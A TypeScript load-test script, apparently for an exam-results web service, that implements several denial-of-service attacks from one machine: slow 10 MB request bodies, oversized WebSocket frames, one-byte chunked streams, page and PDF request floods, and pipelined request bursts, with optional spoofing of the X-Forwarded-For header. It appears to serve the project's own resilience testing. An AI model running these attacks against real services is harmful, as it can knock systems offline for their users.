// What one laptop can send, from one address: a process of its own, ended by whoever started it.
//   node --import tsx tests/load/laptop/attacks.ts <attack> <url> <address> <what it may ask for, as JSON>

import { randomBytes } from 'node:crypto';
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { z } from 'zod';

const [name = '', target = '', address = '', given = '{}'] = process.argv.slice(2);
const { hostname, port, host } = new URL(target);
const { token, exam, sheet, behindProxy } = z
  .object({
    token: z.string(),
    exam: z.string(),
    sheet: z.record(z.string(), z.string()),
    behindProxy: z.boolean(),
  })
  .parse(JSON.parse(given));

const bodySize = 10_400_000;
/** Through a proxy all connections come from it, and a header says for whom. */
const from = behindProxy ? '127.0.0.1' : address;
const forwarded: Record<string, string> = behindProxy ? { 'x-forwarded-for': address } : {};
const forwardedLine = behindProxy ? `x-forwarded-for: ${address}\r\n` : '';

function open(): Socket {
  const socket = connect({ host: hostname, port: Number(port), localAddress: from });
  socket.on('error', () => undefined);
  return socket;
}

const head = (lines: string, path = '/v1/graphql', method = 'POST') =>
  `${method} ${path} HTTP/1.1\r\nhost: ${host}\r\n${forwardedLine}${lines}\r\n\r\n`;

/** Writes a beginning and so many bytes; opens another connection when this one is ended. */
function hold(beginning: string | Buffer, bytes: number): void {
  const socket = open();
  socket.write(beginning);
  const piece = Buffer.alloc(65_536, 'x');
  let left = bytes;
  const more = (): void => {
    while (left > 0 && !socket.destroyed) {
      const next = piece.subarray(0, Math.min(left, piece.length));
      left -= next.length;
      if (!socket.write(next)) {
        socket.once('drain', more);
        return;
      }
    }
  };
  more();
  socket.resume();
  socket.once('close', () => setTimeout(() => hold(beginning, bytes), 1000));
}

const json = 'content-type: application/json\r\n';

function bodies(authorization: string): void {
  for (let index = 0; index < 100; index += 1)
    hold(head(`${json}${authorization}content-length: ${bodySize}`), bodySize - 1);
}

function sockets(): void {
  const key = randomBytes(16).toString('base64');
  const upgrade = head(
    `connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\nsec-websocket-key: ${key}\r\nsec-websocket-protocol: graphql-transport-ws`,
    '/v1/graphql',
    'GET',
  );
  // A text frame of ten megabytes, masked by nothing.
  const frame = Buffer.alloc(14);
  frame.set([0x81, 0xff]);
  frame.writeBigUInt64BE(10_000_000n, 2);
  for (let index = 0; index < 100; index += 1)
    hold(Buffer.concat([Buffer.from(upgrade), frame]), 10_000_000 - 1);
}

/** Bytes in pieces as small as HTTP allows: each costs more than it weighs. */
function crumbs(): void {
  const crumb = Buffer.from('1\r\nx\r\n'.repeat(10_000));
  for (let index = 0; index < 100; index += 1) {
    const again = (): void => {
      const socket = open();
      socket.write(head(`${json}transfer-encoding: chunked`));
      const more = (): void => {
        while (!socket.destroyed && socket.write(crumb));
        if (!socket.destroyed) socket.once('drain', more);
      };
      more();
      socket.resume();
      socket.once('close', () => setTimeout(again, 1000));
    };
    again();
  }
}

/** So many connections that ask again as soon as they are answered. */
function flood(connections: number, pathOf: () => string, headers: Record<string, string> = {}): void {
  const ask = (): void => {
    const asked = request(
      {
        host: hostname,
        port,
        path: pathOf(),
        localAddress: from,
        agent: false,
        headers: { host, ...forwarded, ...headers },
      },
      (response) => {
        response.resume();
        response.once('close', ask);
      },
    );
    asked.on('error', () => setTimeout(ask, 200));
    asked.end();
  };
  for (let index = 0; index < connections; index += 1) ask();
}

/** Many requests in one write, whose answers nobody reads. */
function pipelined(): void {
  for (let index = 0; index < 50; index += 1) {
    const again = (): void => {
      const socket = open();
      for (let each = 0; each < 1000; each += 1) {
        const id = randomBytes(4).toString('hex');
        socket.write(head('accept: text/html', `/results?${query({ exam, id })}`, 'GET'));
      }
      socket.once('close', () => setTimeout(again, 1000));
    };
    again();
  }
}

const query = (values: Record<string, string>): string => new URLSearchParams(values).toString();
let last = 0;
const someId = (): string => `NOBODY-${(last += 1)}`;

const attacks: Record<string, () => void> = {
  bodies: () => bodies(''),
  'bodies-signed-in': () => bodies(`authorization: Bearer ${token}\r\n`),
  sockets,
  crumbs,
  pages: () =>
    flood(60, () => `/results?${query({ exam, id: someId() })}`, {
      accept: 'text/html',
      'accept-encoding': 'br',
    }),
  pdfs: () => flood(320, () => `/sheets/sheet.pdf?${query(sheet)}`),
  pipelined,
};

attacks[name]?.();
